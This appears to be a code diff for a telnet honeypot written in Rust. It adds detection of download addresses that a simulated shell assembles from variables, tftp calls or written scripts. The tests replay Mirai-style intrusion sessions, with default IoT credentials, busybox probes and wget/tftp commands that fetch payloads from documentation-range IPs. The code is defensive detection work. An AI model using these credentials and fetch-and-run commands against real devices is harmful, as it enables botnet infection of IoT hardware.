@@ -10,6 +10,7 @@ use crate::{
     shell::{
         Outcome,
         device::{self as shell, Inside, SHOWN_BYTES_MAX},
+        downloads,
     },
 };
 use alloc::{boxed::Box, vec::Vec};
@@ -121,7 +122,15 @@ impl TelnetSession {
             self.findings.note("command", line);
             self.findings.signs |= Signs::RULE;
         }
-        if shell::run(line, &self.telnet, self.inside.get_or_insert_default(), now, answer) == Outcome::Exit {
+        let inside = self.inside.get_or_insert_default();
+        let outcome = shell::run(line, &self.telnet, inside, now, answer);
+        // What stands in the line itself is recognised there.
+        let named = downloads(line);
+        let found: Vec<Vec<u8>> = inside.addresses().into_iter().filter(|address| !named.contains(&address.as_slice())).collect();
+        if !found.is_empty() {
+            self.findings.note("download", &found.join(&b' '));
+        }
+        if outcome == Outcome::Exit {
             return self.close();
         }
         shell::prompt(self.inside.get_or_insert_default(), answer);
@@ -202,10 +211,26 @@ mod tests {
         assert_eq!(credentials(&heard), [("root", "xc3511"), ("root", "vizxv")]);
         let shown = shown(&heard);
         assert!(shown.contains("Login incorrect|localhost login: root|Password: |||BusyBox v1."), "{shown}");
-        assert!(shown.ends_with("/bin/busybox MIRAI|MIRAI: applet not found|~ # wget http://198.51.100.9/i|~ # "), "{shown}");
+        assert!(
+            shown.contains(
+                "/bin/busybox MIRAI|MIRAI: applet not found|~ # wget http://198.51.100.9/i|Connecting to 198.51.100.9 ("
+            ),
+            "{shown}"
+        );
         let commands: Vec<_> = heard.reports.iter().filter_map(|(found, _)| found.fields.get("command")).collect();
         assert_eq!(commands, ["enable", "sh", "/bin/busybox MIRAI", "wget http://198.51.100.9/i"]);
         assert!(heard.reports[2..6].iter().all(|(found, _)| found.signs == Signs::RULE));
+    }
+
+    /// An address that only the shell puts together is told, too.
+    #[test]
+    fn what_a_line_would_fetch_is_told_though_it_does_not_say_so() {
+        let heard = talk(
+            b"a\r\n1\r\na\r\n2\r\nH=198.51.100.7;wget http://$H/a\r\ntftp -g -r mips 198.51.100.8\r\necho 'wget http://198.51.100.9/$1' > /tmp/s; sh /tmp/s\r\nwget http://198.51.100.1/b\r\n",
+        );
+        let told: Vec<&str> =
+            heard.reports.iter().filter_map(|(found, _)| found.fields.get("download")).map(String::as_str).collect();
+        assert_eq!(told, ["http://198.51.100.7/a", "tftp://198.51.100.8/mips", "http://198.51.100.9/"]);
     }
 
     /// A second try once lost its first letter to the end of the line before it.
